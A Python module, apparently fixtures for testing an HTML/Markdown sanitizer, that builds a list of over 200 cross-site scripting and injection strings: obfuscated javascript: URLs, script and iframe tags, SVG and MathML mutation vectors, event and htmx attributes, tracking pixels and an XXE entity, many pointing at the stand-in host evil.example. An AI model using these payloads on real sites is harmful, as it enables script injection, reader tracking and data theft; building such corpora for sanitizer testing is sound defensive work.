"""What somebody may write into a text so that a reader's browser does something: by families.

Each family is a way of writing, and what is written in it; together more than 200 strings.
"""

from collections.abc import Iterator

CALL = "alert(1)"
HOST = "//evil.example"

# A scheme that browsers run or open, and the disguises that parsers have taken for something else.
SCHEMES = [
    f"javascript:{CALL}", f"JaVaScRiPt:{CALL}", f"javascript&colon;{CALL}",
    f"&#106;avascript:{CALL}", f"&#x6A;avascript:{CALL}", f"&#0000106avascript:{CALL}",
    f"java\tscript:{CALL}", f"java&Tab;script:{CALL}", f"java&#10;script:{CALL}",
    f"java&NewLine;script:{CALL}", f"java%0ascript:{CALL}", f"\u00a0javascript:{CALL}",
    f"\u2003javascript:{CALL}", f"\u200bjavascript:{CALL}", f"\ufeffjavascript:{CALL}",
    f"\x01javascript:{CALL}", f"&#1;javascript:{CALL}", f"javascript\u00a0:{CALL}",
    f"\uff4aavascript:{CALL}", f"java\u017fcript:{CALL}", f"javascript\uff1a{CALL}",
    f"%6aavascript:{CALL}", f"javascript:{HOST}/%0a{CALL}", f"javascript:/*--&gt;*/{CALL}",
    f"\\javascript:{CALL}", f"java\\script:{CALL}", f"view-source:javascript:{CALL}",
    f"feed:javascript:{CALL}", f"jar:javascript:{CALL}!/", f"blob:https:{HOST}/1",
    "data:text/html,<script>1</script>", "data:text/html;base64,PHNjcmlwdD4=",
    "DATA:image/svg+xml,<svg onload=1>", "data:,x", "&#100;ata:text/html,x",
    "vbscript:msgbox(1)", "VBScript:msgbox(1)", "livescript:x", "mocha:x", "file:///etc/passwd",
    "ftp://evil.example/x", "chrome://settings", "about:blank", "intent://x#Intent;end", "tel:1",
]  # fmt: skip
LINKS = ["[x]({})", "[x](<{}>)", "<{}>", "[x]: {}\n\n[x]"]

# An element that loads, runs, covers the page or sends a form.
ELEMENTS = [
    f"<script>{CALL}</script>", f"<ScRiPt>{CALL}</sCrIpT>", f"<script src={HOST}/x.js></script>",
    f"<script/x>{CALL}</script>", f"<script\n>{CALL}</script\n>", f"<<script>{CALL}//<</script>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>", f"<script>{CALL}", f"<script type=module>{CALL}",
    "<iframe src=javascript:1></iframe>", "<iframe srcdoc='<script>1</script>'></iframe>",
    "<frameset><frame src=javascript:1></frameset>", f"<object data={HOST}></object>",
    f"<embed src={HOST}>", "<applet code=x></applet>", f"<base href={HOST}/>",
    f"<link rel=stylesheet href={HOST}/x.css>", f"<link rel=prefetch href={HOST}>",
    f"<meta http-equiv=refresh content='0;url={HOST}'>", f"<form action={HOST}><button>x</button>",
    f"<button formaction={HOST}>x</button>", "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>", f"<textarea><script>{CALL}</script></textarea>",
    f"<title><script>{CALL}</script></title>", f"<template><script>{CALL}</script></template>",
    "<dialog open onclose=alert(1)>x</dialog>", "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>", f"<portal src={HOST}></portal>",
    f"<isindex action={HOST}>",
    "<keygen autofocus onfocus=alert(1)>", f"<xmp><script>{CALL}</script></xmp>",
    f"<plaintext><script>{CALL}", f"<noscript><p title='</noscript><script>{CALL}</script>'>",
    f"<noembed><script>{CALL}</script></noembed>", f"<noframes><script>{CALL}</script></noframes>",
]  # fmt: skip

# What would be fetched from a host that then knows who reads.
PICTURES = [
    f"<img src={HOST}/x.png>", f"<img srcset='{HOST}/x.png 1x'>", "<img src=x onerror=alert(1)>",
    f"<image src={HOST}/x.png>", f"<picture><source srcset={HOST}/x.png></picture>",
    f"<video src={HOST}/x.mp4 autoplay>", f"<video poster={HOST}/x.png>",
    f"<audio src={HOST}/x.ogg>",
    f"<audio><source onerror=alert(1) src={HOST}>", f"<track src={HOST}/x.vtt>",
    f"<input type=image src={HOST}/x.png>", f"<table background={HOST}/x.png><tr><td>x</table>",
    f"<body background={HOST}/x.png>", f"![x](https:{HOST}/pixel.png)", f"![x]({HOST}/pixel.png)",
    "![x](javascript:alert(1))", "![x](data:image/svg+xml,<svg/onload=1>)",
    f"![x][y]\n\n[y]: https:{HOST}/p.png", f"![x](https:{HOST}/p.png 'a\" onerror=\"alert(1)')",
    "![](\\\\evil.example\\share.png)", f"[![x](https:{HOST}/p.png)](https:{HOST})",
]  # fmt: skip

# Other languages inside HTML, where other rules of parsing hold.
FOREIGN = [
    "<svg onload=alert(1)>", "<svg/onload=alert(1)>", f"<svg><script>{CALL}</script></svg>",
    f"<svg><script href=data:,{CALL} />",
    "<svg><a xlink:href=javascript:1><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:1 />",
    "<svg><set attributeName=onload to=1>",
    f"<svg><use href={HOST}/x.svg#x /></svg>", f"<svg><image href={HOST}/x.png /></svg>",
    f"<svg><foreignObject><script>{CALL}</script></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "<math><mi xlink:href='javascript:1'>x</mi></math>", "<math href=javascript:1>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:1>x</maction></math>",
    "<math><annotation-xml encoding=text/html><script>1</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
    f"<?xml-stylesheet href={HOST}/x.xsl ?>",
    f"<!DOCTYPE x [<!ENTITY y SYSTEM '{HOST}'>]><x>&y;</x>",
]  # fmt: skip

# What htmx, the page's style or a handler would do with an attribute of an element that is allowed.
ATTRIBUTES = [
    "onclick=alert(1)", "ONCLICK=alert(1)", "onmouseover='alert(1)'", "onpointerrawupdate=alert(1)",
    "onanimationend=alert(1) class=x", "onfocus=alert(1) tabindex=1 autofocus",
    "x/onclick=alert(1)",
    "\x0conclick=alert(1)", "\u00a0onclick=alert(1)", "hx-get=/people/ hx-trigger=load",
    "data-hx-get=/people/ data-hx-trigger=load", "HX-POST=/people/", "hx-on:click=alert(1)",
    "hx-on--load=alert(1)", "hx-on::after-request=alert(1)", "data-hx-on-click=alert(1)",
    "hx-vals='js:{x:alert(1)}'", "hx-ext=x", "hx-disable=false hx-get=/", "hx-boost=true",
    "hx-swap-oob=true id=task", "style=position:fixed", f"style='background:url({HOST})'",
    "style='width:expression(alert(1))'", "class=alarm", "id=task", "name=csrfmiddlewaretoken",
    "data-key=done", "is=x-y", "slot=x", "contenteditable", "popover", f"ping={HOST}",
    "target=_top",
    "download=x", "rel=opener", "srcdoc=x", f"formaction={HOST}", "autofocus", "accesskey=x",
]  # fmt: skip

# Where Markdown itself ends or escapes something.
MARKDOWN = [
    f"`<script>{CALL}</script>`", f"```html\n<script>{CALL}</script>\n```",
    f"    <script>{CALL}</script>",
    f'```"onclick="{CALL}\nx\n```', f'[x](https:{HOST}/"onmouseover="{CALL})',
    f"[x](https:{HOST} 'title\" onclick=\"{CALL}')", f'[x" onclick="{CALL}](https:{HOST})',
    f"[<script>{CALL}</script>](https:{HOST})", f'<https:{HOST}/"onclick="{CALL}>',
    f"<!--><script>{CALL}</script>-->", f"<!-- --!><script>{CALL}</script>",
    f"</div><script>{CALL}</script>",
    f"<![CDATA[<script>{CALL}</script>]]>", f"| a |\n|---|\n| <script>{CALL}</script> |",
    f'| a |\n|:--" onclick={CALL}|\n| b |', f"# <script>{CALL}</script>",
    f"> <script>{CALL}</script>",
    f"* <script>{CALL}</script>", f"\\<script>{CALL}</script>",
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{CALL}", f"<scr\0ipt>{CALL}</scr\0ipt>",
    f"\ufeff<script>{CALL}</script>",
    f"\u202e<script>{CALL}</script>", f"<\u017fcript>{CALL}</\u017fcript>",
    f"\uff1cscript\uff1e{CALL}",
    f"**<script>**{CALL}**</script>**", f"[x](https:{HOST}\n<script>{CALL}</script>)",
    f'[a]: https:{HOST} "<script>{CALL}</script>"\n\n[a]', f'<a href="{CALL}\n\n">x</a>',
    f"[x]({HOST}/x)", "[x](https:/\\evil.example)", "[x](\\\\evil.example)", "<evil@evil.example>",
]  # fmt: skip


def _all() -> Iterator[str]:
    for scheme in SCHEMES:
        yield from (link.format(scheme) for link in LINKS)
        yield f'<a href="{scheme}">x</a>'
    for attribute in ATTRIBUTES:
        yield f"<p {attribute}>x</p>"
        yield f'<a href="https://evil.example" {attribute}>x</a>'
    yield from ELEMENTS + PICTURES + FOREIGN + MARKDOWN


PAYLOADS = list(dict.fromkeys(_all()))
